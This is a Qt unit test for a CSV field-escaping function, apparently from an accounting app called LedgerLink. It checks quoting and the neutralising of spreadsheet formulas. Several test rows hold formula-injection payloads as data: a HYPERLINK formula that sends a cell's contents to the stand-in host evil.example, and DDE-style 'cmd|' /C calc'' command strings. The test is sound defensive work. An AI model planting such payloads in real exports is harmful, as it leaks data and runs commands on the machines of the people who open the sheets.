#include "model/csvfield.h"

#include <QtTest/QTest>

using namespace Qt::StringLiterals;
using LedgerLink::Model::csvField;

/// Exported sheets (plans, reconciliations, governance sheets) are opened in spreadsheets:
/// field values from a store (a customer's name, an order note) must never run as formulas.
class TestCsvField : public QObject
{
    Q_OBJECT

private slots:
    void field_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("expected");
        QTest::newRow("plain") << u"Ada Lovelace"_s << u"Ada Lovelace"_s;
        QTest::newRow("empty") << QString() << QString();
        QTest::newRow("comma quoted") << u"Lovelace, Ada"_s << u"\"Lovelace, Ada\""_s;
        QTest::newRow("quotes doubled")
            << u"the \"Analytical\" engine"_s << u"\"the \"\"Analytical\"\" engine\""_s;
        QTest::newRow("line break quoted") << u"line 1\nline 2"_s << u"\"line 1\nline 2\""_s;
        QTest::newRow("formula =") << u"=1+2"_s << u"'=1+2"_s;
        QTest::newRow("formula with comma")
            << u"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"_s
            << u"\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""_s;
        QTest::newRow("formula +") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
        QTest::newRow("formula -") << u"-2+3+cmd|' /C calc'!A0"_s << u"'-2+3+cmd|' /C calc'!A0"_s;
        QTest::newRow("formula @") << u"@SUM(1,2)"_s << u"\"'@SUM(1,2)\""_s;
        QTest::newRow("leading tab") << u"\t=1"_s << u"'\t=1"_s;
        QTest::newRow("leading carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
        QTest::newRow("negative amount stays a number") << u"-12.50"_s << u"-12.50"_s;
        QTest::newRow("signed whole number stays a number") << u"+3"_s << u"+3"_s;
        QTest::newRow("amount") << u"107.99"_s << u"107.99"_s;
        QTest::newRow("not a number after the sign") << u"-12.50 EUR"_s << u"'-12.50 EUR"_s;
        QTest::newRow("equals inside") << u"a=b"_s << u"a=b"_s;
    }

    void field()
    {
        QFETCH(QString, text);
        QFETCH(QString, expected);
        QCOMPARE(csvField(text), expected);
    }
};

QTEST_GUILESS_MAIN(TestCsvField)
#include "tst_csvfield.moc"
